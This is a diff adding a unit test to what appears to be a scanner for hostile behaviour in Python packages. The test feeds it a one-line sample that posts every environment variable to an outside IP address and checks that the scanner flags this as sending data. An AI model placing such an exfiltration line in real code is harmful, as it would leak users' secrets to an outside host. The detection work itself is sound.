@@ -67,6 +67,13 @@ def test_when_it_happens_follows_from_where_it_stands() -> None:
     assert read("import os\nos.system('a')\n", "x.tar!/x-1/setup.py", "x.tar")[0].when is When.INSTALL
 
 
+def test_a_module_named_among_others_on_a_line_makes_a_file_worth_following() -> None:
+    text = "import os, requests as r\nr.post('http://198.51.100.7/b', json=dict(os.environ))\n"
+    found = [one.act for one in read(text, "x.whl!/p/__init__.py", "x.whl")]
+    assert Act.SENDS in found
+    assert not read("import os, requestsx as r\nr.post(dict(os.environ))\n", "x.whl!/p/__init__.py", "x.whl")
+
+
 def test_what_an_install_step_of_its_own_does_happens_on_install() -> None:
     text = (
         "import os\nfrom setuptools import setup\nclass Mine:\n    def run(self):\n        os.system('a')\n"
